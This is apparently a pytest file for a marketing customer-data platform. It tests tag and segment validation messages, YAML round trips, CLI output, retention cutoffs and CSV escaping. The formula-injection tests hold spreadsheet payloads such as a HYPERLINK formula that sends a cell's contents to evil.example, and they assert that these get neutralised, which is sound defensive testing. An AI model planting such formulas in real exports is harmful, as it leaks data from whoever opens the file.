"""Tag and segment definitions: validation at load (errors name file, tag/segment, key and fix), round trips,
and CSV formula-injection safety. Pure Python: no JVM."""
from __future__ import annotations

import datetime as dt
import shutil
from pathlib import Path

import pytest

from cdp.config import load_settings
from cdp.tags.engine import DefinitionError, load_tag_catalog, parse_condition, parse_tag_file
from cdp.tags.segments import (
    load_segment,
    load_segments,
    parse_segment,
    safe_cell,
    save_segment,
    segment_yaml,
    write_csv,
)

REPO = Path(__file__).resolve().parent.parent


@pytest.fixture()
def conf_copy(tmp_path):
    """A private copy of the shipped conf/ so tests can add broken files."""
    conf = tmp_path / "conf"
    shutil.copytree(REPO / "conf", conf)
    return conf


def test_shipped_tags_and_segments_load():
    settings = load_settings("local")
    catalog = load_tag_catalog(settings.conf_path("tags"))
    assert {"durian_lover", "lifecycle_stage", "churn_grade", "guide_durian_fan", "vip_invite_list"} <= catalog.names
    kinds = {t.kind for t in catalog.tags}
    assert kinds == {"rule", "value", "wecom", "manual"}
    names = {s.name for s in load_segments(settings)}
    # the seven examples of issue 4 §5 (the 7th as a pair: added by a guide vs not)
    assert names == {"durian_lovers", "kyoho_not_black_vine", "members_without_app", "never_bought_premium",
                     "frequent_not_paid_member", "dormant_3_6_months", "wecom_guide_added", "wecom_not_added"}


@pytest.mark.parametrize("tag, expected", [
    # a typo in a key: the error says where, suggests the right key and lists the allowed ones
    ({"name": "durian_lover", "when": {"bought": {"catgory": "榴莲"}}},
     "tags/bad.yaml: tag 'durian_lover': when.bought.catgory: unknown key 'catgory' (did you mean 'category'?)"),
    # a threshold below its bound
    ({"name": "durian_lover", "when": {"bought": {"category": "榴莲", "min_times": 0}}},
     "tag 'durian_lover': when.bought.min_times: Input should be greater than or equal to 1 (got 0)"),
    # a name that cannot be a column
    ({"name": "Durian Lover", "when": {"bought": {}}}, "tag 'Durian Lover': name: tag name 'Durian Lover' must be"),
    # an unknown lifecycle stage, with a suggestion and the list to pick from
    ({"name": "x", "when": {"lifecycle": "dormnat"}}, "when.lifecycle: unknown lifecycle value 'dormnat' (did you mean 'dormant'?)"),
    # two kinds at once
    ({"name": "x", "when": {"bought": {}}, "value": "city"}, "tag 'x': found ['when', 'value'] of when/value/wecom/manual. Fix:"),
    # a tag condition cannot reference tags
    ({"name": "x", "when": {"tag": "durian_lover"}}, "when.tag: a tag's condition cannot refer to other tags"),
    # an attribute of the wrong type
    ({"name": "x", "when": {"attribute": {"name": "has_app", "eq": "no"}}},
     "when.attribute.eq: has_app is a boolean column, got 'no'. Fix: give true/false"),
    ({"name": "x", "when": {"attribute": {"name": "hass_app", "eq": True}}},
     "when.attribute.name: unknown attribute 'hass_app' (did you mean 'has_app'?)"),
    ({"name": "x", "when": {"bought": {"channel": "shop"}}}, "unknown channel 'shop'; use one of ['pos', 'miniprogram', 'ecommerce']"),
    ({"name": "x", "value": "citty"}, "tag 'x': value: cannot take the value of 'citty' (did you mean 'city'?)"),
    ({"name": "x", "wecom": {"tag_name": "爱吃榴莲"}}, "wecom.group_name: required. Fix:"),
    ({"name": "x", "manual": {"id_type": "mobile", "path": "a.csv"}}, "manual.id_type: Input should be 'one_id' or 'member_card_no'"),
])
def test_wrong_tag_is_rejected_with_file_tag_and_fix(conf_copy, tag, expected):
    import yaml

    (conf_copy / "tags" / "bad.yaml").write_text(yaml.safe_dump({"tags": [tag]}, allow_unicode=True), encoding="utf-8")
    with pytest.raises(DefinitionError) as info:
        load_tag_catalog(conf_copy / "tags")
    assert expected in str(info.value)
    assert str(conf_copy / "tags" / "bad.yaml") in str(info.value)


def test_duplicate_tag_names_across_files(conf_copy):
    (conf_copy / "tags" / "zz.yaml").write_text("tags:\n  - name: durian_lover\n    value: city\n", encoding="utf-8")
    with pytest.raises(DefinitionError, match=r"zz.yaml: tag 'durian_lover': name: already declared in .*behaviour.yaml"):
        load_tag_catalog(conf_copy / "tags")


def test_segment_errors_list_every_problem_with_its_path():
    raw = {"name": "x", "wher": {}, "where": {"all": [{"bought": {"sku": "S1", "within_days": -3}},
                                                      {"tag": "durian_lovr"}, {"nott": {}}]},
           "campaign": {"feedback_tag": "Bad Tag", "days": 400}}
    with pytest.raises(DefinitionError) as info:
        parse_segment(raw, "conf/segments/x.yaml", known_tags={"durian_lover"})
    wheres = [w for w, _ in info.value.problems]
    # every problem is reported at once, each with the path the marketer must edit
    assert wheres == ["wher", "where.all[0].bought.within_days", "where.all[1].tag", "where.all[2].nott",
                      "campaign.feedback_tag", "campaign.days"]
    text = str(info.value)
    assert "conf/segments/x.yaml: segment 'x': wher: unknown key 'wher' (did you mean 'where'?)" in text
    assert "unknown tag 'durian_lovr' (did you mean 'durian_lover'?)" in text
    assert "where.all[2].nott: unknown condition 'nott' (did you mean 'not'?)" in text
    assert info.value.to_dict()["problems"][0] == {"where": "wher", "message": text.splitlines()[0].split("wher: ", 1)[1]}


def test_segment_round_trip_dict_yaml_file(tmp_path):
    """The console builds a dict, previews it, saves it as YAML: loading the saved file gives the same definition."""
    settings = load_settings("local", conf_dir=None, overrides={"conf_dir": str(tmp_path / "conf")})
    shutil.copytree(REPO / "conf", tmp_path / "conf")
    raw = {"name": "grape_no_black_vine_sh", "label": "上海 巨峰", "where": {"all": [
        {"bought": {"sku": "S20101", "within_days": 180}}, {"never_bought": {"sku": "S20102"}},
        {"any": [{"attribute": {"name": "city", "in": ["上海", "杭州"]}}, {"lifecycle": ["active"]}]},
        {"not": {"model": {"name": "churn", "grade": ["high"]}}}, {"tag": {"name": "rfm_segment", "in": ["Loyal"]}},
        {"no_purchase_within_days": 7}, {"membership": {"brand_id": "main", "is_paid_member": False}},
        {"wecom_tag": {"group_name": "偏好", "tag_name": "葡萄控"}},
        {"attribute": {"name": "birthday", "lt": dt.date(2000, 1, 1)}}]},
        "campaign": {"coupon_id": "CP-1", "feedback_tag": "redeemed_cp_1", "days": 14}}
    seg = load_segment(raw, settings)
    path = save_segment(seg, settings)
    assert path == tmp_path / "conf" / "segments" / "grape_no_black_vine_sh.yaml"
    again = load_segment("grape_no_black_vine_sh", settings)
    assert again.to_yaml() == seg.to_yaml() == {**raw, "where": raw["where"]}
    assert load_segment(segment_yaml(seg), settings).to_yaml() == raw
    with pytest.raises(Exception, match="exists. Fix"):
        save_segment(seg, settings)
    # the feedback tag it declares can now be used by other segments
    load_segment({"name": "fed", "where": {"tag": "redeemed_cp_1"}}, settings)


def test_a_model_name_or_grade_the_models_stage_does_not_give_is_rejected():
    """A typo in a model condition used to load fine and match nobody; the names and grades come from
    conf/models.yaml."""
    settings = load_settings("local")
    with pytest.raises(DefinitionError) as info:
        load_segment({"name": "t", "where": {"model": {"name": "chrun", "grade": "high"}}}, settings)
    assert "where.model.name: unknown model 'chrun' (did you mean 'churn'?)" in str(info.value)
    with pytest.raises(DefinitionError) as info:
        load_segment({"name": "t", "where": {"model": {"name": "churn", "grade": ["high", "hgh"]}}}, settings)
    assert "where.model.grade: unknown grade 'hgh' of model churn (did you mean 'high'?)" in str(info.value)
    load_segment({"name": "t", "where": {"model": {"name": "winback", "grade": "medium"}}}, settings)


def test_a_tag_files_model_condition_is_checked_against_the_models_too(conf_copy):
    """The same check for a `model:` condition in conf/tags, where the tags stage and the segment loader read it."""
    import yaml

    from cdp.tags.segments import known_model_grades, tag_catalog

    settings = load_settings("local", conf_dir=conf_copy)
    bad = conf_copy / "tags" / "scored.yaml"
    bad.write_text(yaml.safe_dump({"tags": [{"name": "likely_churn", "when": {"model": {"name": "churn", "grade": "hgh"}}}]}),
                   encoding="utf-8")
    with pytest.raises(DefinitionError) as info:
        tag_catalog(settings)
    assert "when.model.grade: unknown grade 'hgh' of model churn (did you mean 'high'?)" in str(info.value)
    assert str(bad) in str(info.value)
    bad.write_text(yaml.safe_dump({"tags": [{"name": "likely_churn", "when": {"model": {"name": "chrun"}}}]}),
                   encoding="utf-8")
    with pytest.raises(DefinitionError, match=r"when.model.name: unknown model 'chrun' \(did you mean 'churn'\?\)"):
        load_tag_catalog(conf_copy / "tags", known_model_grades(settings))
    bad.write_text(yaml.safe_dump({"tags": [{"name": "likely_churn", "when": {"model": {"name": "churn", "grade": "high"}}}]}),
                   encoding="utf-8")
    assert "likely_churn" in tag_catalog(settings).names


def test_unknown_segment_name_suggests(tmp_path):
    settings = load_settings("local")
    with pytest.raises(Exception, match="no segment 'durian_lover' .*did you mean 'durian_lovers'"):
        load_segment("durian_lover", settings)


def test_tag_file_shape():
    with pytest.raises(DefinitionError, match="a tag file holds one key `tags:`"):
        parse_tag_file([{"name": "x"}], "t.yaml")


def test_condition_descriptions():
    cond = parse_condition({"all": [{"bought": {"sku": ["S1", "S2"], "min_amount": 100, "within_days": 30}},
                                    {"not": {"rfm": ["Lost", "Hibernating"]}}]})
    assert cond.describe() == ("(bought sku=S1|S2 for >= 100 CNY within 30 days AND "
                               "NOT rfm_segment in ['Lost', 'Hibernating'])")


@pytest.mark.parametrize("value, expected", [
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("+8613800138000", "'+8613800138000"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"), ("wmABC", "wmABC"), ("张*", "张*"), (None, ""), (12, "12"),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_write_csv_is_formula_safe(tmp_path):
    out = tmp_path / "x.csv"
    rows = [{"a": '=HYPERLINK("http://evil")', "b": "ok"}, {"a": "1", "b": "@x"}]
    assert write_csv(rows, ["a", "b"], out) == 2
    import csv

    with open(out, encoding="utf-8-sig", newline="") as handle:
        got = list(csv.reader(handle))
    # no cell a spreadsheet would evaluate: every one starts with a harmless character
    assert got == [["a", "b"], ["'=HYPERLINK(\"http://evil\")", "ok"], ["1", "'@x"]]


def test_cli_lists_and_reports_a_bad_definition(conf_copy, capsys):
    from cdp.cli import main

    assert main(["segment", "list"]) == 0
    out = capsys.readouterr().out
    assert "kyoho_not_black_vine             买过巨峰葡萄但没买过黑藤巨峰 [campaign -> tag redeemed_black_vine_trial]" in out
    assert main(["tags", "list"]) == 0
    assert "durian_lover" in capsys.readouterr().out
    # a broken tag file makes every command that loads the tags fail with the precise message, exit code 2
    (conf_copy / "tags" / "bad.yaml").write_text("tags:\n  - name: x\n    when: {lifecycle: dormnat}\n", encoding="utf-8")
    assert main(["tags", "list", "--conf-dir", str(conf_copy)]) == 2
    assert "bad.yaml: tag 'x': when.lifecycle: unknown lifecycle value 'dormnat' (did you mean 'dormant'?)" in capsys.readouterr().err


def test_tag_table_retention_is_declared_typed_and_counted_like_within_days(tmp_path):
    from cdp.config import default_conf_dir
    from cdp.errors import ConfigError
    from cdp.tags.retention import SEGMENT_TABLES, RetentionDays, TagsConf, load_tags_conf, retention_cutoffs

    # the shipped file states the documented defaults; no file at all means the same
    shipped = load_tags_conf(default_conf_dir() / "tags.yaml")
    assert shipped == load_tags_conf(tmp_path / "absent.yaml") == TagsConf(
        retention_days=RetentionDays(gold_tags_long=400, gold_tag_history=None, gold_segment_members=400))
    # 400 days back from 2026-06-30 keeps (2025-05-26, 2026-06-30] (365 days to 2025-06-30, 35 more), so
    # 2025-05-27 is the oldest date kept; history without a retention is never cut
    run_date = dt.date(2026, 6, 30)
    assert retention_cutoffs(shipped, run_date) == {"gold_tags_long": ("computed_date", dt.date(2025, 5, 27))}
    one_day = TagsConf(retention_days=RetentionDays(gold_tags_long=1, gold_tag_history=30))
    assert retention_cutoffs(one_day, run_date) == {"gold_tags_long": ("computed_date", run_date),
                                                    "gold_tag_history": ("changed_date", dt.date(2026, 6, 1))}
    assert retention_cutoffs(shipped, run_date, SEGMENT_TABLES) == {"gold_segment_members": ("run_date", dt.date(2025, 5, 27))}
    # a wrong value is rejected with the file, the key and the fix
    bad = tmp_path / "tags.yaml"
    bad.write_text("retention_days:\n  gold_tags_long: 0\n  gold_tag_histroy: 30\n", encoding="utf-8")
    with pytest.raises(ConfigError) as err:
        load_tags_conf(bad)
    message = str(err.value)
    assert message.startswith(f"{bad}: key retention_days.gold_tags_long: Input should be greater than or equal to 1")
    assert "key retention_days.gold_tag_histroy: Extra inputs are not permitted" in message
    assert "Fix: `retention_days: {gold_tags_long: 400, gold_tag_history: null, gold_segment_members: 400}`" in message
